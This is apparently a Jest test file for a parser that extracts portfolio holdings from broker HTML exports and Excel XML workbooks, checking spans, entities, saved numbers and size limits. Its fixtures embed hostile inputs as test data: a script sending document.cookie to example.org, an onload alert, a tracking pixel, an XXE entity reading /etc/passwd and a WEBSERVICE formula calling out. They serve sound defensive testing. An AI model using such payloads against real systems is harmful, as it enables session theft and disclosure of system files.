import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { readHoldings } from '@commonweal/domain/portfolio-files';
import { isMarkup } from './file-text.ts';
import { readMarkup } from './markup-table.ts';

/** In the manner of a broker whose depot is exported as a page. */
const depot = `<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8">
<style>td { mso-number-format: "\\@" }</style><script>fetch('https://example.org/' + document.cookie)</script></head>
<body onload="alert(1)"><table><tr><td colspan="4">Depot&uuml;bersicht vom 02.01.2026</td></tr></table>
<table border=1><tr><th rowspan=2>Bezeichnung</th><th rowspan=2>ISIN</th><th colspan=2>Bestand &amp; Summe</th></tr>
<tr><th>Kurswert</th><th>Gewicht</th></tr>
<tr><td>Acme&nbsp;S&eacute;lection<br>AG<td>FR0000120271<td align=right>1.234,56<td>60,5
<tr><td>Zenith <img src="https://example.org/pixel.gif">Inc</td><td>US0378331005</td><td x:num="987.65">987,7</td><td>39,5</td></tr>
</table><table><tr><td>Disclaimer</td></tr></table></body></html>`;

/** In the manner of a fund house whose workbook is XML. */
const workbook = `<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<ss:Workbook xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">
<ss:Worksheet ss:Name="About"><ss:Table><ss:Row><ss:Cell><ss:Data ss:Type="String">About</ss:Data></ss:Cell></ss:Row></ss:Table></ss:Worksheet>
<ss:Worksheet ss:Name="Holdings"><ss:Table>
<ss:Row ss:Index="5"><ss:Cell><ss:Data ss:Type="String">Name</ss:Data></ss:Cell><ss:Cell><ss:Data ss:Type="String">ISIN</ss:Data></ss:Cell><ss:Cell ss:Index="4"><ss:Data ss:Type="String">Weight</ss:Data></ss:Cell></ss:Row>
<ss:Row><ss:Cell><ss:Data ss:Type="String">Acme &#38; Co</ss:Data></ss:Cell><ss:Cell><ss:Data ss:Type="String">FR0000120271</ss:Data></ss:Cell><ss:Cell ss:Index="4" ss:Formula="=WEBSERVICE(&quot;https://example.org&quot;)"><ss:Data ss:Type="Number">60.5</ss:Data></ss:Cell></ss:Row>
<ss:Row><ss:Cell><ss:Data ss:Type="String">Zenith</ss:Data></ss:Cell><ss:Cell><ss:Data ss:Type="String">US0378331005</ss:Data></ss:Cell><ss:Cell><ss:Data ss:Type="DateTime">2026-01-02T00:00:00.000</ss:Data></ss:Cell><ss:Cell><ss:Data ss:Type="Number">39.5</ss:Data></ss:Cell></ss:Row>
</ss:Table></ss:Worksheet></ss:Workbook>`;

function read(markup: string) {
  const table = readMarkup(markup);
  const { holdings } = readHoldings(table, table.columns);
  return holdings.map(({ line, name, isin, weight }) => [line, name, isin, weight.value]);
}

const rows = (count: number) => `<table><tr><th>ISIN<th>Weight${'<tr><td>FR0000120271<td>1'.repeat(count)}</table>`;

describe('readMarkup', () => {
  it('reads the table of a page that holds the holdings, with its references, breaks and spans', () => {
    expect(read(depot)).toEqual([
      [4, 'Acme Sélection AG', 'FR0000120271', 60.5],
      [5, 'Zenith Inc', 'US0378331005', 39.5],
    ]);
  });

  it('reads the sheet of a workbook in XML, its places and its saved numbers', () => {
    expect(read(workbook)).toEqual([
      [6, 'Acme & Co', 'FR0000120271', 60.5],
      [7, 'Zenith', 'US0378331005', 39.5],
    ]);
  });

  it('puts a header that is a table of its own above the rows of the next one', () => {
    const parts = '<table><tr><td>Name<td>ISIN<td>Weight</table><table><tr><td>Acme<td>FR0000120271<td>5</table>';
    expect(read(parts)).toEqual([[2, 'Acme', 'FR0000120271', 5]]);
  });

  it('takes the number that a spreadsheet saved beside the text of a cell', () => {
    const saved = '<table><tr><td>ISIN<td>Weight<tr><td>FR0000120271<td sdval="1234.5">1.234,50</table>';
    expect(read(saved)).toEqual([[2, '', 'FR0000120271', 1234.5]]);
  });

  it('reads nothing from scripts, styles and comments', () => {
    const hidden = '<table><tr><td>ISIN<td>Weight<tr><td><!-- <td>no --><script>"<td>no"</script>FR0000120271<td>5';
    expect(read(hidden)).toEqual([[2, '', 'FR0000120271', 5]]);
  });

  it.each([
    ['a page without a table', '<html><body><p>Sign in</p></body></html>', 'empty'],
    ['301 columns', `<table><tr>${'<td>x'.repeat(301)}</table>`, 'too-many-columns'],
    [
      'a place far to the right',
      '<Table><Row><Cell ss:Index="9999999"><Data>x</Data></Cell></Row></Table>',
      'too-many-columns',
    ],
    ['10,001 rows', rows(10_001), 'too-many-lines'],
    ['100,000 rows', rows(100_000), 'too-many-lines'],
    ['tables in tables without an end', '<table><tr><td>'.repeat(200), 'spreadsheet'],
  ])('refuses %s', (_, markup, problem) => {
    expect(() => readMarkup(markup)).toThrow(problem);
  });

  it('reads 300 columns and 10,000 rows', () => {
    expect(readMarkup(`<table><tr>${'<td>x'.repeat(300)}<tr><td>y</table>`).width).toBe(300);
    expect(readMarkup(rows(10_000)).rows).toHaveLength(10_000);
  });

  it('ends whatever the markup, with a table or a problem that has a name', () => {
    const piece = fc.constantFrom(
      ...['<', '>', '"', "'", '&', '<table', '<tr', '<td', '</td>', '</table>', '<!--', '-->', '<![CDATA[', ']]>'],
      ...['<script>', '</script', 'colspan="9', ' rowspan=99999', 'ss:Index="5"', '&#x110000;', '&#0;', '/', ' ', 'x'],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        try {
          readMarkup(pieces.join(''));
        } catch (error) {
          expect(error).toHaveProperty('name', 'FileProblemError');
        }
      }),
    );
  });

  it.each(['<td', '<!--', '<script>', '&#', '<td a="', '<![CDATA[', '<td index'])(
    'ends on 100,000 times %s, which would hang a reader that looks back',
    (piece) => {
      try {
        expect(readMarkup(`<table><tr><td>x${piece.repeat(100_000)}`).rows.length).toBeGreaterThan(0);
      } catch (error) {
        expect(error).toHaveProperty('name', 'FileProblemError');
      }
    },
  );
});

describe('isMarkup', () => {
  it.each([depot, workbook, '\uFEFF\r\n <TABLE>', '<!DOCTYPE html>', '<?xml version="1.0"?>', '<ss:Workbook>'])(
    'knows %s',
    (markup) => {
      expect(isMarkup(markup)).toBe(true);
    },
  );

  it.each(['ISIN;Weight', '<5%;Acme', 'a <table>', '', '< 5'])('takes %j for other text', (text) => {
    expect(isMarkup(text)).toBe(false);
  });
});
